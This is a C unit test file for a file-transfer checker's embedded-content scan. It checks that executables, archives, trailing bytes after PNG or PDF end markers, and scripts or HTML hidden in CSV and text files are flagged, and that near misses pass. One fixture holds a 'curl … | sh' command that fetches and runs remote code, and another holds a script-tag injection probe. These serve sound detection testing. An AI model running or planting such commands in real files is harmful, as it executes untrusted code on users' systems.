/*
 * test_embedded.c — unit tests of the embedded-content scan (mover/checks/embedded.c)
 * through the streaming checker: executables and archives past the start of a file
 * (the finding "embedded ZIP at offset 71,680"), bytes after a format's end marker,
 * signatures split across chunks, the route's block/review/ignore choice, and near
 * misses that must pass (a ZIP file's own members, "PK" and "MZ" in text, tags that
 * are only words).
 */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <cmocka.h>

#include <stdio.h>
#include <string.h>

#include "checks_driver.h"
#include "util/alloc.h"

#define CHECKS "{\"max_bytes\": \"4MiB\", \"check_extension\": false}"

/* A tiny but well-formed ELF header (64-bit, little-endian, executable). */
static size_t elf(uint8_t *out)
{
    memset(out, 0, 64);
    memcpy(out, "\x7f" "ELF\x02\x01\x01", 7);
    out[16] = 2;    /* ET_EXEC */
    out[18] = 0x3e; /* x86-64 */
    return 64;
}

/* A PE: MZ, e_lfanew = 0x80, "PE\0\0" there. */
static size_t pe(uint8_t *out)
{
    memset(out, 0, 0x100);
    out[0] = 'M', out[1] = 'Z';
    out[0x3c] = 0x80;
    memcpy(out + 0x80, "PE\0\0", 4);
    return 0x100;
}

/* A ZIP with one stored member "a.txt" = "hi": local header, central directory, end. */
static size_t zip(uint8_t *out)
{
    static const uint8_t z[] = {
        'P', 'K', 3, 4, 10, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0x9d, 0x77, 0xc4, 0x3d, 2, 0, 0, 0, 2, 0, 0, 0, 5, 0, 0, 0,
        'a', '.', 't', 'x', 't', 'h', 'i',
        'P', 'K', 1, 2, 20, 0, 10, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0x9d, 0x77, 0xc4, 0x3d, 2, 0, 0, 0, 2, 0, 0, 0, 5, 0,
        0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 'a', '.', 't', 'x', 't',
        'P', 'K', 5, 6, 0, 0, 0, 0, 1, 0, 1, 0, 51, 0, 0, 0, 37, 0, 0, 0, 0, 0,
    };
    memcpy(out, z, sizeof(z));
    return sizeof(z);
}

static const uint8_t png[] = {
    0x89, 'P', 'N', 'G', '\r', '\n', 0x1a, '\n', 0, 0, 0, 13, 'I', 'H', 'D', 'R', 0, 0, 0, 1, 0, 0, 0, 1, 8, 6, 0, 0,
    0, 0x1f, 0x15, 0xc4, 0x89, 0, 0, 0, 13, 'I', 'D', 'A', 'T', 0x78, 0x9c, 0x63, 0x60, 0, 0, 0, 2, 0, 1, 0x54,
    0xa2, 0x4f, 0x5d, 0, 0, 0, 0, 'I', 'E', 'N', 'D', 0xae, 'B', '`', 0x82,
};

/* 70 KiB of CSV, then `payload`. */
static uint8_t *csv_then(const uint8_t *payload, size_t n, size_t *len)
{
    size_t head = 71680;
    uint8_t *data = sl_malloc(head + n);
    for (size_t i = 0; i < head; i++) data[i] = (uint8_t)(i % 16 == 15 ? '\n' : "0123456789,abcd"[i % 16]);
    memcpy(data + head, payload, n);
    *len = head + n;
    return data;
}

static void expect(checks_driver *d, const char *name, const void *data, size_t len, size_t chunk, finding_verdict v,
                   const char *words)
{
    findings f = { 0 };
    checks_driver_run(d, name, data, len, chunk, &f);
    finding_verdict got = checks_worst_of(&f, "embedded");
    if (got != v || (words != NULL && checks_find(&f, "embedded", words) == NULL)) {
        const artifact_finding *e = checks_find(&f, "embedded", NULL);
        fail_msg("%s (chunk %zu): expected verdict %d with \"%s\", got %d: %s", name, chunk, v, words ? words : "",
                 got, e ? e->detail : "(no embedded finding)");
    }
    findings_clean_up(&f);
}

/* Finding: an ELF or a ZIP appended after 70 KiB of CSV was promoted as text/csv. */
static void payloads_after_70_kib_of_csv_are_found(void **state)
{
    (void)state;
    checks_driver d;
    checks_driver_init(&d, CHECKS);
    uint8_t payload[512];
    size_t len, n;
    uint8_t *data;
    size_t chunks[] = { 1 << 20, 4096, 3 }; /* 3: every signature straddles chunks */
    for (size_t c = 0; c < 3; c++) {
        n = zip(payload);
        data = csv_then(payload, n, &len);
        expect(&d, "table.csv", data, len, chunks[c], FINDING_FAIL, "embedded ZIP at offset 71,680");
        sl_free(data);
        n = elf(payload);
        data = csv_then(payload, n, &len);
        expect(&d, "table.csv", data, len, chunks[c], FINDING_FAIL, "embedded ELF executable at offset 71,680");
        sl_free(data);
        n = pe(payload);
        data = csv_then(payload, n, &len);
        expect(&d, "table.csv", data, len, chunks[c], FINDING_FAIL, "embedded PE executable at offset 71,680");
        sl_free(data);
    }
    checks_driver_clean_up(&d);
}

/* Finding: a PNG with a ZIP after IEND was promoted as image/png. */
static void png_with_zip_after_iend_is_found(void **state)
{
    (void)state;
    checks_driver d;
    checks_driver_init(&d, CHECKS);
    uint8_t data[512];
    memcpy(data, png, sizeof(png));
    size_t len = sizeof(png) + zip(data + sizeof(png));
    findings f = { 0 };
    checks_driver_run(&d, "pixel.png", data, len, 5, &f);
    assert_non_null(checks_find(&f, "embedded", "embedded ZIP at offset 67"));
    const artifact_finding *t = checks_find(&f, "embedded", "bytes after the PNG end (IEND) at offset 67");
    assert_non_null(t);
    assert_int_equal(t->verdict, FINDING_REVIEW);
    findings_clean_up(&f);
    /* the PNG alone is clean */
    checks_driver_run(&d, "pixel.png", png, sizeof(png), 5, &f);
    assert_int_equal(checks_worst_of(&f, "embedded"), FINDING_PASS);
    findings_clean_up(&f);
    checks_driver_clean_up(&d);
}

static void pdf_with_more_than_whitespace_after_eof_is_found(void **state)
{
    (void)state;
    checks_driver d;
    checks_driver_init(&d, CHECKS);
    const char *clean = "%PDF-1.4\n1 0 obj\n<<>>\nendobj\ntrailer\n<<>>\n%%EOF\n  \n";
    const char *updated = "%PDF-1.4\n%%EOF\n2 0 obj\n<<>>\nendobj\n%%EOF\n"; /* an incremental update */
    const char *tail = "%PDF-1.4\n1 0 obj\n<<>>\nendobj\n%%EOF\nhidden payload";
    expect(&d, "doc.pdf", clean, strlen(clean), 4, FINDING_PASS, NULL);
    expect(&d, "doc.pdf", updated, strlen(updated), 4, FINDING_PASS, NULL);
    expect(&d, "doc.pdf", tail, strlen(tail), 4, FINDING_REVIEW, "after the PDF end (%%EOF)");
    checks_driver_clean_up(&d);
}

static void scripts_and_html_at_any_offset_are_found(void **state)
{
    (void)state;
    checks_driver d;
    checks_driver_init(&d, CHECKS);
    const char *script = "name,value\nx,1\n#!/bin/sh\ncurl http://example.invalid | sh\n";
    const char *html = "name,value\nx,\"<script>alert(1)</script>\"\n";
    const char *iframe = "notes\n<IFRAME src=x>\n";
    expect(&d, "a.csv", script, strlen(script), 2, FINDING_REVIEW, "embedded script (#!) at offset 15");
    expect(&d, "a.csv", html, strlen(html), 2, FINDING_REVIEW, "embedded HTML <script> at offset 14");
    expect(&d, "a.txt", iframe, strlen(iframe), 2, FINDING_REVIEW, "HTML <iframe>");
    checks_driver_clean_up(&d);
}

/* Near misses: they look close but are not embedded content. */
static void near_misses_pass(void **state)
{
    (void)state;
    checks_driver d;
    checks_driver_init(&d, CHECKS);
    const char *text = "PK and MZ are initials; 7z is a tool; #! in a sentence; <scripting> and <htmlish> are words\n"
                       "a # ! b\nMZ is followed by text, not a header: MZ..............................\n";
    expect(&d, "notes.txt", text, strlen(text), 3, FINDING_PASS, NULL);
    uint8_t z[256];
    size_t n = zip(z); /* a ZIP file's own members and directory are its structure */
    expect(&d, "a.zip", z, n, 7, FINDING_PASS, NULL);
    uint8_t e[64];
    n = elf(e); /* an executable at offset 0 is the type check's business */
    expect(&d, "tool", e, n, 7, FINDING_PASS, NULL);
    checks_driver_clean_up(&d);
}

/* The route decides: block, review or ignore each kind. */
static void route_chooses_block_review_or_ignore(void **state)
{
    (void)state;
    checks_driver d;
    checks_driver_init(&d, "{\"max_bytes\": \"4MiB\", \"embedded\": {\"archive\": \"review\", \"executable\": \"ignore\","
                           " \"html\": \"block\"}}");
    uint8_t payload[512];
    size_t len, n = zip(payload);
    uint8_t *data = csv_then(payload, n, &len);
    expect(&d, "t.csv", data, len, 4096, FINDING_REVIEW, "embedded ZIP");
    sl_free(data);
    n = elf(payload);
    data = csv_then(payload, n, &len);
    expect(&d, "t.csv", data, len, 4096, FINDING_PASS, "the route ignores this kind");
    sl_free(data);
    const char *html = "a\n<html>\n";
    expect(&d, "t.txt", html, strlen(html), 4096, FINDING_FAIL, "HTML document");
    checks_driver_clean_up(&d);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(payloads_after_70_kib_of_csv_are_found),
        cmocka_unit_test(png_with_zip_after_iend_is_found),
        cmocka_unit_test(pdf_with_more_than_whitespace_after_eof_is_found),
        cmocka_unit_test(scripts_and_html_at_any_offset_are_found),
        cmocka_unit_test(near_misses_pass),
        cmocka_unit_test(route_chooses_block_review_or_ignore),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
